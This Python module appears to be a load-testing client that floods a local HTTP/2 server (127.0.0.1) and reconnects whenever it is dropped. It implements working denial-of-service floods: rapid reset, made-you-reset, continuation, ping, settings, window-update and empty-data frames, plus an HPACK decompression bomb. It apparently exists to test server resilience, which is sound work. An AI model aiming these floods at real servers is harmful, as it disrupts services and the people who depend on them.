"""Floods of HTTP/2: one client that sends as fast as it can, and connects again when it is disconnected.

Standard input: `flood`, `port`, `path` and `key` as JSON. It runs until it is terminated. Responses are read and
discarded, so that the engine does not wait for this client.
"""

import contextlib
import json
import os
import select
import socket
import sys
from collections.abc import Callable, Iterator
from itertools import count
from typing import Final

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_UNITS: Final = 64  # in one write
_NICENESS: Final = 5  # the latencies of the other clients are measured on the same CPU
_RETRY_SECONDS: Final = 0.01

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, _, WINDOW_UPDATE, CONTINUATION = range(10)
_END_STREAM, _END_HEADERS = 1, 4


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _field(name: str, value: str) -> bytes:
    """Return a header field that no table keeps. Texts have less than 127 bytes."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def _head(path: str, key: str, *more: bytes) -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "fe", "authorization": f"Bearer {key}"}
    return b"".join((*(_field(name, value) for name, value in fields.items()), *more))


def _requests(block: bytes, *after: int) -> Callable[[], Iterator[bytes]]:
    def units() -> Iterator[bytes]:
        for stream in count(1, 2):
            head = _frame(HEADERS, _END_HEADERS | _END_STREAM, stream, block)
            yield head + (_frame(RST_STREAM, 0, stream, bytes((0, 0, 0, 8))) if after else b"")

    return units


def _repeated(unit: bytes, start: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def units() -> Iterator[bytes]:
        yield start
        while True:
            yield unit

    return units


def _flood(name: str, path: str, key: str) -> Callable[[], Iterator[bytes]]:
    head = _head(path, key)
    opened = _frame(HEADERS, _END_HEADERS, 1, head)
    bomb = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 12_000  # an entry of the table, and references to it
    floods = {
        "rapid reset": _requests(head, RST_STREAM),
        "made-you-reset": _requests(head + _field("connection", "close")),
        "requests with a wrong key": _requests(_head(path, "wrong")),
        "ping": _repeated(_frame(PING, 0, 0, bytes(8))),
        "settings": _repeated(_frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff" * 5)),
        "empty data": _repeated(_frame(DATA, 0, 1), opened),
        "window updates": _repeated(_frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1")),
        "continuation": _repeated(_frame(CONTINUATION, 0, 1, _field("x", "y") * 20), _frame(HEADERS, 0, 1, head)),
        "HPACK bomb": _requests(head + bomb),
    }
    return floods[name]


FLOODS: Final = (
    "rapid reset", "made-you-reset", "requests with a wrong key", "ping", "settings", "empty data", "window updates",
    "continuation", "HPACK bomb",
)  # fmt: skip


def _run(port: int, units: Iterator[bytes]) -> None:
    """Flood over one connection until it is closed."""
    with socket.create_connection(("127.0.0.1", port)) as sock:
        sock.sendall(_PREFACE + _frame(SETTINGS, 0, 0))
        sock.setblocking(False)
        pending = b""
        while True:
            pending = pending or b"".join(next(units) for _ in range(_UNITS))
            readable, writable, _ = select.select([sock], [sock], [])
            if readable and not sock.recv(1 << 20):
                return
            if writable:
                pending = pending[sock.send(pending) :]


def main() -> None:
    """Run from the command line."""
    os.nice(_NICENESS)
    job = json.load(sys.stdin)
    flood = _flood(job["flood"], job["path"], job["key"])
    while True:
        with contextlib.suppress(OSError):
            _run(job["port"], flood())
        select.select([], [], [], _RETRY_SECONDS)


if __name__ == "__main__":
    main()
